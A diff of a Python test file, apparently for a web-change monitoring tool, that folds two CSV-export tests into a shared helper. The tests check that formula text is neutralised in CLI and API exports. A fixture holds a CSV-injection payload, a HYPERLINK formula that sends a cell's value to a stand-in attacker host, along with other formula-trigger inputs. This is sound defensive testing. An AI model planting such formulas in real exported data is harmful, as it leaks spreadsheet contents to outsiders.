@@ -71,15 +71,23 @@ def test_one_word_changed_in_a_ten_megabyte_paragraph_is_found(
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
-def test_formula_text_is_neutralised_in_cli_and_api_csv(tmp_path: Path, site: FixtureSite) -> None:
-    page = f"<html><body><main><h2>{FORMULA}</h2><p>+1 intro</p></main></body></html>"
-    pages = {"now": page}
+def _formula_page_edited(
+    tmp_path: Path, site: FixtureSite, before: str, after: str
+) -> tuple[Path, Path]:
+    """(config, database) after two checks of a page headed by FORMULA whose paragraph went
+    from *before* to *after*."""
+    pages = {"now": f"<html><body><main><h2>{FORMULA}</h2><p>{before}</p></main></body></html>"}
     site.routes["/f.html"] = lambda _h: Response(200, pages["now"].encode(), HTML)
     config = config_with(tmp_path, site, '{id: formula, url: "$B/f.html", select: main}')
     db = tmp_path / "obs.db"
     cli(config, db, "check", "formula")
-    pages["now"] = page.replace("+1 intro", "-2 intro")
+    pages["now"] = pages["now"].replace(f"<p>{before}</p>", f"<p>{after}</p>")
     cli(config, db, "check", "formula")
+    return config, db
+
+
+def test_formula_text_is_neutralised_in_cli_and_api_csv(tmp_path: Path, site: FixtureSite) -> None:
+    config, db = _formula_page_edited(tmp_path, site, "+1 intro", "-2 intro")
     exported = cli(config, db, "changes", "--format", "csv").stdout
     rows = list(csv.DictReader(io.StringIO(exported)))
     assert rows, exported
@@ -95,14 +103,7 @@ def test_formula_text_is_neutralised_in_the_api_csv(tmp_path: Path, site: Fixtur
     from observatory.web import create_app
     from tests.fixtures.web.world import serving
 
-    page = f"<html><body><main><h2>{FORMULA}</h2><p>x</p></main></body></html>"
-    pages = {"now": page}
-    site.routes["/f.html"] = lambda _h: Response(200, pages["now"].encode(), HTML)
-    config = config_with(tmp_path, site, '{id: formula, url: "$B/f.html", select: main}')
-    db = tmp_path / "obs.db"
-    cli(config, db, "check", "formula")
-    pages["now"] = page.replace("<p>x</p>", f"<p>@SUM(1+1) {time.time()}</p>")
-    cli(config, db, "check", "formula")
+    config, db = _formula_page_edited(tmp_path, site, "x", f"@SUM(1+1) {time.time()}")
     app = create_app(load_config(config), open_db(str(db)))
     with serving(app) as base:
         exported = httpx.get(f"{base}/api/changes.csv", timeout=10).text
